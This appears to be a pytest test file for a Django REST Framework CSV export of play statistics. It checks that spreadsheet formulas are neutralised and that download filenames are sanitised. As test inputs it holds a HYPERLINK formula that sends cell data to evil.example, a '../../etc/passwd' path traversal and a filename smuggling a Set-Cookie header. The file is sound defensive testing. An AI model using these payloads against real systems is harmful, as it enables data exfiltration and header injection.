"""analytics/api/csv_export.py: stats as a CSV download, safe to open in a spreadsheet."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.test import RequestFactory
from rest_framework import exceptions
from rest_framework.renderers import JSONRenderer
from rest_framework.response import Response
from rest_framework.views import APIView

from analytics.api.csv_export import (
    CSVRenderer,
    csv_response,
    neutralise,
    safe_filename,
    wants_csv,
)

TITLE = "Asia/Kolkata, 24h: 2026-11-29 to 2026-11-30"
COLUMNS = ["hour", "plays", "listeners"]


def content(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def export(rows, columns=COLUMNS, filename="plays.csv") -> list[list[str]]:
    return parsed(content(csv_response(filename=filename, title=TITLE, columns=columns, rows=rows)))


def test_the_header_row_names_the_period_and_time_zone_beside_the_first_column():
    table = export([["2026-11-29T18:00:00+05:30", 12, 7]])
    assert table[0] == [f"hour ({TITLE})", "plays", "listeners"]
    assert table[1:] == [["2026-11-29T18:00:00+05:30", "12", "7"]]


def test_a_table_with_no_rows_is_the_header_row_alone():
    assert export([]) == [[f"hour ({TITLE})", "plays", "listeners"]]


def test_no_columns_is_refused():
    with pytest.raises(ValueError):
        csv_response(filename="x.csv", title=TITLE, columns=[], rows=[])


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-5", "@SUM(A1:A9)", "\tx", "\rx"],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text
    assert export([[text, 1, 1]])[1][0] == "'" + text


def test_a_column_name_that_would_start_a_formula_is_neutralised_too():
    header = export([], columns=["=cmd", "-plays", "@who"])[0]
    assert header == [f"'=cmd ({TITLE})", "'-plays", "'@who"]


@pytest.mark.parametrize("text", ["Hello", "5", "a=b", "x-1", " =padded", "", "Ünïcödé ✓"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-5, 0, 7, -2.5, 3.25, Decimal("-1.50")])
def test_numbers_stay_numbers_even_when_negative(number):
    assert neutralise(number) == number
    assert type(neutralise(number)) is type(number)


def test_a_negative_number_is_written_bare_but_the_same_digits_as_text_are_not():
    text = content(
        csv_response(filename="x.csv", title=TITLE, columns=["a", "b"], rows=[[-5, "-5"]])
    )
    assert text.splitlines()[1] == "-5,'-5"


def test_none_is_empty_and_dates_are_iso_8601():
    moment = datetime.datetime(
        2026, 11, 29, 18, 30, tzinfo=datetime.timezone(-datetime.timedelta(hours=5))
    )
    row = [None, datetime.date(2026, 11, 29), moment, True]
    assert export([row], columns=["a", "b", "c", "d"])[1] == [
        "",
        "2026-11-29",
        "2026-11-29T18:30:00-05:00",
        "True",
    ]


def test_commas_quotes_and_newlines_round_trip():
    tricky = ['Song, "the" one', "line one\nline two", "cr\r\nlf", 'a"b', "ç,é"]
    assert export([tricky], columns=["a", "b", "c", "d", "e"])[1] == tricky


def test_rows_are_read_while_the_response_streams_not_before():
    read = []

    def rows():
        for hour in range(3):
            read.append(hour)
            yield [hour, hour * 2]

    response = csv_response(filename="x.csv", title=TITLE, columns=["h", "p"], rows=rows())
    assert read == []
    assert parsed(content(response))[1:] == [["0", "0"], ["1", "2"], ["2", "4"]]
    assert read == [0, 1, 2]


def test_the_response_is_a_streamed_download_that_is_not_cached():
    response = csv_response(filename="plays-2026.csv", title=TITLE, columns=COLUMNS, rows=[])
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="plays-2026.csv"'
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    ("given", "sent"),
    [
        ('stats/../a b";.csv', "stats_.._a_b__.csv"),
        ("../../etc/passwd", "_.._etc_passwd"),
        ('x.csv"\r\nSet-Cookie: a=b', "x.csv___Set-Cookie__a_b"),
        ("Künstler.csv", "K_nstler.csv"),
        ("", "export.csv"),
        ("...", "export.csv"),
    ],
)
def test_the_filename_is_sanitised(given, sent):
    assert safe_filename(given) == sent
    response = csv_response(filename=given, title=TITLE, columns=COLUMNS, rows=[])
    assert response["Content-Disposition"] == f'attachment; filename="{sent}"'


class PlaysView(APIView):
    """A stats view in miniature: JSON by default, CSV on ?format=csv."""

    authentication_classes = []
    permission_classes = []
    renderer_classes = [JSONRenderer, CSVRenderer]

    def get(self, request):
        days = request.query_params.get("days", "1")
        if not days.isdigit():
            raise exceptions.ValidationError({"days": ["A whole number of days."]})
        if days == "0":
            raise exceptions.PermissionDenied("=You are not a member of this artist.")
        rows = [["2026-11-29T18:00:00+05:30", 12, 7], ["=HYPERLINK(1)", -3, 0]]
        if wants_csv(request):
            return csv_response(filename="plays.csv", title=TITLE, columns=COLUMNS, rows=rows)
        return Response({"rows": rows})


def get(path="/stats/", **extra):
    response = PlaysView.as_view()(RequestFactory().get(path, **extra))
    if isinstance(response, Response):
        response.render()
    return response


def test_format_csv_answers_the_csv_download():
    response = get("/stats/?format=csv")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert parsed(content(response)) == [
        [f"hour ({TITLE})", "plays", "listeners"],
        ["2026-11-29T18:00:00+05:30", "12", "7"],
        ["'=HYPERLINK(1)", "-3", "0"],
    ]


def test_accept_text_csv_answers_csv_too():
    response = get(HTTP_ACCEPT="text/csv")
    assert isinstance(response, StreamingHttpResponse)
    assert parsed(content(response))[0][0] == f"hour ({TITLE})"


def test_without_format_the_answer_stays_json():
    response = get()
    assert response["Content-Type"] == "application/json"
    assert response.data["rows"][1] == ["=HYPERLINK(1)", -3, 0]


def test_a_bad_parameter_in_csv_is_a_readable_400():
    response = get("/stats/?format=csv&days=seven")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert parsed(response.content.decode()) == [["detail"], ["days: A whole number of days."]]


def test_a_refusal_in_csv_is_a_readable_403_with_its_message_neutralised():
    response = get("/stats/?format=csv&days=0")
    assert response.status_code == 403
    assert parsed(response.content.decode()) == [
        ["detail"],
        ["'=You are not a member of this artist."],
    ]


def test_the_renderer_refuses_data_that_is_not_an_error():
    renderer_context = {"response": Response({"rows": []}, status=200)}
    with pytest.raises(TypeError, match="csv_response"):
        CSVRenderer().render({"rows": []}, "text/csv", renderer_context)
    with pytest.raises(TypeError, match="csv_response"):
        CSVRenderer().render({"detail": "x"})


def test_the_renderer_flattens_every_error_message():
    data = {"non_field_errors": ["Pick one."], "since": ["Not a date.", "Too early."]}
    body = CSVRenderer().render(data, "text/csv", {"response": Response(status=400)})
    assert parsed(body.decode()) == [
        ["detail"],
        ["Pick one."],
        ["since: Not a date."],
        ["since: Too early."],
    ]
